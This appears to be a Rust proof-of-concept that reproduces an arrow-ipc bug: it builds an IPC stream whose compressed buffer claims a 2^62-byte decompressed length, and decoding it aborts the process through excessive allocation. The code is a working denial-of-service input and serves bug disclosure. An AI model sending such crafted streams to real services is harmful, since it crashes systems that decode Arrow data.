//! A compressed record batch buffer starts with its decompressed length (8 bytes, written by
//! the sender). arrow-ipc allocates that length (`Vec::with_capacity`) before decompressing:
//! a 16-byte buffer claiming 2^62 bytes aborts the process, and a real zstd frame of a few
//! hundred KiB may expand to gigabytes, allocated on the sender's word.

use arrow_buffer::Buffer;
use arrow_ipc::reader::StreamDecoder;
use arrow_ipc::{
    BodyCompressionBuilder, CompressionType, FieldNode, MessageBuilder, MessageHeader,
    MetadataVersion, RecordBatchBuilder,
};
use arrow_ipc_59_repro::{frame, one_batch};
use flatbuffers::FlatBufferBuilder;

fn main() {
    let (stream, schema_len) = one_batch(3);
    let mut bytes = stream[..schema_len].to_vec();
    let mut body = (1u64 << 62).to_le_bytes().to_vec();
    body.extend_from_slice(&[0; 8]);
    let mut fbb = FlatBufferBuilder::new();
    let nodes = fbb.create_vector(&[FieldNode::new(3, 0)]);
    let buffers = fbb.create_vector(&[
        arrow_ipc::Buffer::new(0, 0),
        arrow_ipc::Buffer::new(0, body.len() as i64),
    ]);
    let mut compression = BodyCompressionBuilder::new(&mut fbb);
    compression.add_codec(CompressionType::LZ4_FRAME);
    let compression = compression.finish();
    let mut batch = RecordBatchBuilder::new(&mut fbb);
    batch.add_length(3);
    batch.add_nodes(nodes);
    batch.add_buffers(buffers);
    batch.add_compression(compression);
    let batch = batch.finish();
    let mut message = MessageBuilder::new(&mut fbb);
    message.add_version(MetadataVersion::V5);
    message.add_header_type(MessageHeader::RecordBatch);
    message.add_header(batch.as_union_value());
    message.add_bodyLength(body.len() as i64);
    let message = message.finish();
    fbb.finish(message, None);
    bytes.extend(frame(fbb.finished_data()));
    bytes.extend(body);
    println!("{} bytes; decoding them aborts:", bytes.len());
    let mut decoder = StreamDecoder::new();
    let mut buffer = Buffer::from_vec(bytes);
    let decoded = std::panic::catch_unwind(std::panic::AssertUnwindSafe(move || {
        while !buffer.is_empty() {
            decoder.decode(&mut buffer)?;
        }
        Ok::<(), arrow_schema::ArrowError>(())
    }));
    println!("not reached on arrow-ipc 59.3.2: {decoded:?}");
}
